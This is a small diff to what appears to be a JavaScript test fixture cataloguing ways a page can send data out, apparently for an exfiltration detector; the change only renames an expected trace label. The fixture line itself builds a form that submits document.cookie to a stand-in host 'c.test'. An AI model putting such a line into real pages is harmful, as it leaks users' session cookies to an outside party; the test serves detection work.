@@ -85,7 +85,7 @@ const SENDING = [
 	[
 		"requestSubmit",
 		`const f = document.createElement("form"); f.action = "https://c.test/?" + document.cookie; f.requestSubmit()`,
-		"submit form.submit > < url cookie",
+		"submit form.requestSubmit > < url cookie",
 	],
 	[
 		"a frame",
